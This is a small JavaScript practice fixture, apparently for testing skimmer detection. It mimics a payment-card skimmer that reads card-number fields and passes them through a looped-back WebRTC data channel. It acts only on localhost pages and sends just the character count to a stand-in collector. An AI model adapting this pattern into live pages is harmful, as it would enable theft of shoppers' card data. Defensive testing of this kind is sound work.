/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  // The other end stands in this page: it only counts, so nothing leaves but the number of characters.
  const here = new RTCPeerConnection();
  const there = new RTCPeerConnection();
  here.onicecandidate = ({ candidate }) => there.addIceCandidate(candidate).catch(() => {});
  there.onicecandidate = ({ candidate }) => here.addIceCandidate(candidate).catch(() => {});
  const channel = here.createDataChannel('call');
  there.ondatachannel = (event) => {
    event.channel.onmessage = ({ data }) => {
      fetch(`${home}/rtc/counted?size=${data.length}`, { mode: 'no-cors' }).catch(() => {});
    };
  };
  let waiting = '';
  const say = () => {
    if (channel.readyState !== 'open' || waiting === '') return;
    channel.send(waiting);
    waiting = '';
  };
  channel.onopen = say;
  document.addEventListener('change', () => {
    if (number().length < 13) return;
    waiting = number();
    say();
  });

  async function connect() {
    await here.setLocalDescription();
    await there.setRemoteDescription(here.localDescription);
    await there.setLocalDescription();
    await here.setRemoteDescription(there.localDescription);
  }
  connect().catch(() => {});
})();
